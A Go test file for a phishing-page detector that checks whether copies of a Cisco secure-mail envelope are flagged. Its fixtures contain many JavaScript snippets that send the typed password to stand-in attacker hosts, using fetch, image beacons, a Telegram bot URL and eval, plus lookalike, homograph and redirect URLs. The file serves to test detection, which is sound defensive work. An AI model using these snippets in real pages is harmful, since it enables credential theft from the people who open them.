package heuristic

import (
	"encoding/base64"
	"strings"
	"testing"
)

// envelope is a secure-message envelope as an encrypted-mail service
// attaches it: who sent it, a password field, the encrypted message in
// hidden fields, a form posting to the service, help links and images on
// it; action and script vary.
func envelope(action, script string) string {
	return `<html><head><title>Secure Message</title></head><body>` +
		`<img src="https://res.cisco.com/websafe/images/logo.gif"><p>From: billing@example.com</p><p>To: kenji@corp.example.jp</p>` +
		`<form name="envelope" method="post" action="` + action + `">` +
		`<input type="hidden" name="encryptedPayload" value="` + strings.Repeat("QUJD", 40) + `"><input type="hidden" name="keyId" value="4471">` +
		`<label>Password <input type="password" name="key1"></label> <input type="submit" value="Open">` +
		`<a href="https://res.cisco.com/websafe/help?topic=RegEnvelope">Help</a> <a href="https://res.cisco.com/websafe/pswdForgot.action">Forgot password?</a></form>` +
		`<script>` + script + `</script></body></html>`
}

// TestSecureEnvelope: an encrypted-mail service's envelope that can send
// only to the service is not a phishing page; every way an imitation
// could also (or instead) send elsewhere, or somewhere Kensa cannot read,
// keeps the finding.
func TestSecureEnvelope(t *testing.T) {
	const vendor = "https://res.cisco.com/websafe/decrypt"
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, c := range []struct {
		name    string
		page    string
		flagged bool
	}{
		{"envelope", envelope(vendor, `function openEnvelope(){ document.forms[0].submit(); }`), false},
		{"envelope over http", envelope("http://res.cisco.com/websafe/decrypt", ""), false},
		{"envelope, action and key request by script", envelope("", `var f = document.forms[0];`+"\n"+`f.action = "https://res.cisco.com/websafe/" + "openEnvelope";`+"\n"+
			`var x = new XMLHttpRequest(); x.open("POST", "https://res.cisco.com/websafe/key?id=" + f.keyId.value, true); x.send();`+"\n"+
			`document.images[0].src = "https://res.cisco.com/websafe/images/logo2.gif";`), false},
		// imitations
		{"imitation posting to the attacker", envelope("https://collect.attacker.example/x", ""), true},
		{"posting to both", envelope(vendor, `document.forms[0].onsubmit = function(){ fetch("https://collect.attacker.example/x", {method: "POST", body: new FormData(this)}); };`), true},
		{"lookalike subdomain", envelope("https://res.cisco.com.attacker.example/websafe/decrypt", ""), true},
		{"lookalike name", envelope("https://res-cisco.com/websafe/decrypt", ""), true},
		{"homograph", envelope("https://rеs.cisco.com/websafe/decrypt", ""), true},
		{"vendor as userinfo", envelope("https://res.cisco.com@collect.attacker.example/x", ""), true},
		{"open redirect on the vendor", envelope("https://res.cisco.com/websafe/redirect?url=https://collect.attacker.example/x", ""), true},
		{"encoded redirect on the vendor", envelope("https://res.cisco.com/websafe/go?next=https%3A%2F%2Fcollect.attacker.example%2Fx", ""), true},
		{"fetch to a computed address", envelope(vendor, `var k = [104,116,116,112,115].map(function(c){ return String.fromCharCode(c ^ 0); }).join("") + location.hash.slice(1);`+"\n"+
			`document.forms[0].onsubmit = function(){ fetch(k, {method: "POST", body: new FormData(this)}); };`), true},
		{"vendor host not ended in the literal", envelope(vendor, `document.forms[0].onsubmit = function(){ fetch("https://res.cisco.com" + location.hash.slice(1), {method: "POST", body: new FormData(this)}); };`), true},
		{"XMLHttpRequest with a computed method", envelope(vendor, `var m = document.title.length > 3 ? "POST" : "GET"; var x = new XMLHttpRequest(); x.open(m, "https://res.cisco.com/websafe/key"); x.send(document.forms[0].key1.value);`), true},
		{"XMLHttpRequest opened elsewhere", envelope(vendor, `var x = new XMLHttpRequest(); x.open("POST", "https://collect.attacker.example/k"); x.send(document.forms[0].key1.value);`), true},
		{"image request to the attacker", envelope(vendor, `document.forms[0].onsubmit = function(){ new Image().src = "https://collect.attacker.example/p?" + this.key1.value; };`), true},
		{"image request to a computed address", envelope(vendor, `document.forms[0].onsubmit = function(){ var i = new Image(); i.src = window.name + this.key1.value; };`), true},
		{"script from the attacker", strings.Replace(envelope(vendor, ""), "<script>", `<script src="https://cdn.attacker.example/k.js"></script><script>`, 1), true},
		{"base to the attacker", strings.Replace(envelope("decrypt", ""), "<head>", `<head><base href="https://collect.attacker.example/">`, 1), true},
		{"event source", envelope(vendor, `new EventSource("https://collect.attacker.example/s");`), true},
		{"written form to the attacker", envelope(vendor, `document.write(atob("`+b64(`<form action="https://collect.attacker.example/w"><input type=password></form>`)+`"));`), true},
		{"address held in script", envelope(vendor, `var backup = "https://collect.attacker.example/b";`), true},
		{"telegram", envelope(vendor, `document.forms[0].onsubmit = function(){ fetch("https://api.telegram.org/bot1:AA/sendMessage?chat_id=1&text=" + this.key1.value); };`), true},
		{"fetch passed around", envelope(vendor, `var send = fetch; document.forms[0].onsubmit = function(){ send(window.name, {method: "POST", body: new FormData(this)}); };`), true},
		{"fetch called through call", envelope(vendor, `document.forms[0].onsubmit = function(){ fetch.call(window, window.name, {method: "POST", body: new FormData(this)}); };`), true},
		{"image src in an object", envelope(vendor, `document.forms[0].onsubmit = function(){ Object.assign(new Image(), {src: window.name + this.key1.value}); };`), true},
		{"written image with the password", envelope(vendor, `document.forms[0].onsubmit = function(){ document.write('<img src="' + window.name + this.key1.value + '">'); };`), true},
		{"eval", envelope(vendor, `eval(atob(window.name));`), true},
		{"timer given code built at run time", envelope(vendor, `setTimeout("send(" + window.name + ")", 10);`), true},
		{"timer given literal code that sends away", envelope(vendor, `setTimeout("fetch('https://collect.example.net/k', {method: 'POST', body: document.forms[0].key1.value})", 10);`), true},
		{"eval of literal code that sends away", envelope(vendor, `document.forms[0].onsubmit = function(){ eval("new Image().src = 'https://collect.example.net/i?k=' + this.key1.value"); };`), true},
		{"message to a frame", envelope(vendor, `document.forms[0].onsubmit = function(){ frames[0].postMessage(this.key1.value, "*"); };`), true},
		{"audio request", envelope(vendor, `document.forms[0].onsubmit = function(){ new Audio(window.name + this.key1.value); };`), true},
		{"quote in a regular expression hides nothing", envelope(vendor, `var q = /"/; fetch.call(window, window.name); var s = "x";`), true},
		{"bracket and quote in a regular expression", envelope(vendor, `var r = /("/; var t = fetch; t(window.name); var s = "x";`), true},
		{"code in a template", envelope(vendor, "var u = `${fetch.call(window, window.name)}`;"), true},
		{"unterminated literal", envelope(vendor, "var s = 'abc\nfetch.call(window, window.name);"), true},
		{"envelope checking the address with a regular expression", envelope(vendor, `document.forms[0].onsubmit = function(){ return /^[^@"]+@[^@"]+$/.test("kenji@corp.example.jp") && this.key1.value.length > 0; };`), false},
		{"envelope with its own words in script", envelope(vendor, `var hint = "Press Open to fetch your message; the image will load.";`), false},
		{"script past the budget", envelope(vendor, strings.Repeat("// padding\n", maxPageJS/10)), true},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := find(scan(t, newScanner(t), pageAttach("securedoc_20270115T101500.html", c.page)), "html-credential-form")
			switch {
			case c.flagged && f == nil:
				t.Errorf("not flagged")
			case !c.flagged && f != nil:
				t.Errorf("flagged: %s", f.Detail)
			}
		})
	}
}

func TestSecureMailURL(t *testing.T) {
	for raw, want := range map[string]bool{
		"https://res.cisco.com/websafe/decrypt":               true,
		"HTTPS://RES.CISCO.COM/websafe/decrypt":               true,
		"http://res.cisco.com/x":                              true,
		"https://res.cisco.com:443/x":                         true,
		"https://www.cisco.com/x":                             false,
		"https://cisco.com/x":                                 false,
		"https://res.cisco.com.evil.example/x":                false,
		"https://res.cisco.com@evil.example/x":                false,
		"https://x@res.cisco.com/x":                           false,
		"https://res.cisco.com/r?u=https://evil.example/":     false,
		"https://res.cisco.com/r?next=https%3a%2f%2fevil.ex/": false,
		"ftp://res.cisco.com/x":                               false,
		"javascript:'https://res.cisco.com/'":                 false,
	} {
		if got := secureMailURL(raw); got != want {
			t.Errorf("secureMailURL(%q) = %v, want %v", raw, got, want)
		}
	}
}
